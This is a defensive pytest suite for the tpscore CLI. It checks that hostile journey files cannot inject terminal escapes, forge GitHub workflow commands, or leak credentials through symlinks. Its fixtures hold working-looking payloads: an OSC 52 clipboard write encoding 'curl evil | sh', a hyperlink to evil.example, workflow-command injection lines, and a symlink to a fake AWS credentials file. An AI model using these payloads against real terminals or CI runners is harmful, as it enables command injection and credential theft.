"""Hostile input and unlucky CI, round two: injection, lost files, crashes, hangs and numbers.

Every test runs the real command line and checks the same contract: the exit code, a one-line message
that names the file, no traceback, bounded time (and memory where a large input is involved), and that
the other files of the same run are still reported. Large inputs are generated here, never committed;
their sizes are just big enough to show the bound.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from helpers import VALID
from typer.testing import CliRunner

from tpscore.cli import app

ESCAPES = re.compile(r"[\x1b\x07\x9b\x9d]")


@pytest.fixture
def cli(monkeypatch, tmp_path):
    """``cli(*args, env=None)`` runs tpscore in-process from tmp_path without colour, outside GitHub Actions."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("FORCE_COLOR", raising=False)
    monkeypatch.setenv("NO_COLOR", "1")
    runner = CliRunner()
    return lambda *args, env=None, input=None: runner.invoke(app, [str(a) for a in args], env=env, input=input)


def journey(name: str = "Demo journey", jid: str = "demo") -> str:
    """The small valid journey with another name (a YAML double-quoted string: escapes work)."""
    return VALID.replace("id: demo", f"id: {jid}").replace("name: Demo journey", f'name: "{name}"')


def handled(result, code: int, file: str | None = None, others: tuple[str, ...] = ()) -> str:
    """Assert the hostile-input contract on a CliRunner result; returns stdout + stderr."""
    text = result.stdout + result.stderr
    assert result.exit_code == code, text
    assert "Traceback" not in text and "internal error" not in text, text
    if file is not None:
        named = [line for line in result.stderr.splitlines() + result.stdout.splitlines() if file in line]
        assert named, f"no line names {file}:\n{text}"
    for other in others:
        assert other in text, f"{other} not reported:\n{text}"
    return text


def command_lines(text: str) -> list[str]:
    """Lines the GitHub runner would execute as workflow commands."""
    return [line for line in text.splitlines() if line.lstrip().startswith("::")]


# -- 1. terminal escapes: one choke point for every command --------------------------------------------

TERMINAL_ATTACK = (r"Demo \e]8;;https://evil.example\e\\click\e]8;;\e\\ \e[2J\e]0;pwned title\a"
                   r"\e]52;c;Y3VybCBldmlsIHwgc2g=\a\x9b2J done")


@pytest.mark.parametrize("command", [
    ["explain", "j.yaml"], ["explain", "j.yaml", "-t", "ad"], ["audit", "j.yaml"], ["audit", "-f", "table", "j.yaml"],
    ["audit", "-f", "markdown", "j.yaml"], ["diff", "j.yaml", "j.yaml"], ["diff", "-f", "table", "j.yaml", "j.yaml"],
    ["trend", "j.yaml", "j.yaml"], ["trend", "-f", "csv", "j.yaml", "j.yaml"], ["validate", "j.yaml"],
])
def test_no_command_writes_terminal_escapes_from_journey_text(cli, write, command):
    write(journey(TERMINAL_ATTACK), "j.yaml")
    text = handled(cli(*command), 0)
    assert not ESCAPES.search(text)


def test_explain_shows_the_neutralised_name(cli, write):
    write(journey(TERMINAL_ATTACK), "j.yaml")
    out = handled(cli("explain", "j.yaml"), 0)
    assert "\ufffd]8;;https://evil.example" in out and "done" in out


# -- 2. workflow-command injection ----------------------------------------------------------------------

INJECTION = (r"Demo\n::stop-commands::tpscore\n  ::error file=README.md,line=1::forged\n::add-mask::secret"
             r"\r::warning::cr")
HUMAN_COMMANDS = [["audit", "j.yaml", "k.yaml"], ["audit", "-f", "table", "j.yaml"], ["explain", "j.yaml"],
                  ["diff", "j.yaml", "k.yaml"], ["diff", "-f", "table", "j.yaml", "k.yaml"],
                  ["trend", "j.yaml", "k.yaml"], ["validate", "j.yaml", "bad.yaml"],
                  ["audit", "-f", "markdown", "j.yaml"],
                  ["trend", "-f", "csv", "j.yaml", "k.yaml"], ["audit", "-f", "html", "j.yaml"],
                  ["audit", "-f", "junit", "j.yaml"]]


def _injected(write) -> None:
    write(journey(INJECTION), "j.yaml")
    write(journey(INJECTION), "k.yaml")
    write(journey(INJECTION).replace("stage: buy", "stage: bye"), "bad.yaml")


@pytest.mark.parametrize("command", HUMAN_COMMANDS)
def test_journey_text_never_starts_a_line_with_a_workflow_command(cli, write, command):
    _injected(write)
    result = cli(*command)
    assert result.exit_code in (0, 1) and "Traceback" not in result.stdout + result.stderr
    assert command_lines(result.stdout.replace("\r", "\n")) == []
    assert command_lines(result.stderr.replace("\r", "\n")) == []


@pytest.mark.parametrize("command", [c for c in HUMAN_COMMANDS if not {"markdown", "csv", "html", "junit"} & set(c)])
def test_inside_github_actions_human_reports_are_fenced(cli, write, command):
    _injected(write)
    result = cli(*command, env={"GITHUB_ACTIONS": "true"})
    lines = result.stdout.splitlines()
    start = lines[0]
    assert start.startswith("::stop-commands::")
    token = start.removeprefix("::stop-commands::")
    assert len(token) == 32 and token not in INJECTION
    end = lines.index(f"::{token}::")
    assert command_lines("\n".join(lines[1:end]).replace("\r", "\n")) == []
    # after the fence only tpscore's own annotations (audit's GitHub default), never journey text
    assert all(line.startswith(("::error file=", "::warning file=", "::notice file=")) for line in lines[end + 1:])


def test_github_format_itself_is_not_fenced_and_escapes_the_message(cli, write):
    _injected(write)
    result = cli("audit", "-f", "github", "j.yaml", env={"GITHUB_ACTIONS": "true"})
    assert not any("stop-commands" in line for line in result.stdout.splitlines())
    assert all(line.startswith(("::error ", "::warning ", "::notice ")) for line in result.stdout.splitlines())


# -- 3. links out of the audited tree; content of non-journeys is never quoted -------------------------

SECRET = "AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG"


def test_a_link_out_of_the_audited_folder_is_not_followed(cli, write, tmp_path):
    write(f"[default]\naws_secret_access_key = {SECRET}\n", "home/.aws/credentials")
    write(journey(), "repo/journeys/good.yaml")
    (tmp_path / "repo/journeys/journey.yaml").symlink_to(tmp_path / "home/.aws/credentials")
    (tmp_path / "repo/journeys/inside.yaml").symlink_to(tmp_path / "repo/journeys/good.yaml")
    result = cli("audit", "repo/journeys", "-f", "json", "-o", "r.json", "-f", "sarif", "-o", "r.sarif", "-f", "table")
    text = handled(result, 0, "repo/journeys/journey.yaml", others=("good.yaml",))
    assert "outside the audited folder" in result.stderr
    for output in (text, (tmp_path / "r.json").read_text(), (tmp_path / "r.sarif").read_text()):
        assert "AKIA" not in output and "aws_secret" not in output


@pytest.mark.parametrize("content", [f"{SECRET}\n", f"aws_secret_access_key: {SECRET}\n", f"- {SECRET}\n",
                                     "12345678\n"])
def test_a_file_that_is_not_a_journey_is_named_but_never_quoted(cli, write, content):
    write(content, "named.yaml")
    write(journey(), "good.yaml")
    result = cli("audit", "named.yaml", "good.yaml", "-f", "json", "-o", "r.json", "-f", "table")
    text = handled(result, 1, "named.yaml", others=("good.yaml",))
    for output in (text, Path("r.json").read_text()):
        assert "AKIA" not in output and "aws_secret" not in output and "12345678" not in output


# -- 4. configuration discovery stops at the project root; every format names the profile --------------

def test_a_profile_above_the_project_root_is_not_applied(cli, write, tmp_path):
    write("rules: {ignore: [TP]}\n", ".tpscore.yaml")  # a shared temporary or home folder
    write(journey(), "project/journeys/j.yaml")
    (tmp_path / "project/.git").mkdir()
    result = cli("audit", "project/journeys/j.yaml", "--fail-on", "warning", "-f", "table")
    handled(result, 1, "project/journeys/j.yaml")
    assert "profile: built-in defaults" in result.stdout and "TP003" in result.stdout


def test_outside_any_project_a_parent_profile_is_not_applied(cli, write):
    write("rules: {ignore: [TP]}\n", ".tpscore.yaml")
    write(journey(), "ci/run/j.yaml")
    handled(cli("audit", "ci/run/j.yaml", "--fail-on", "warning"), 1, "ci/run/j.yaml")


@pytest.mark.parametrize("fmt", ["rich", "table", "markdown", "html", "json", "sarif", "junit", "github"])
def test_every_format_names_the_profile_file(cli, write, tmp_path, fmt):
    write("rules: {ignore: [TP003]}\n", "project/.tpscore.yaml")
    write("", "project/pyproject.toml")
    write(journey(), "project/j.yaml")
    result = cli("audit", "project/j.yaml", "-f", fmt)
    handled(result, 0, "project/j.yaml")
    assert str((tmp_path / "project/.tpscore.yaml").resolve()) in re.sub(r"\\(.)", r"\1", result.stdout)
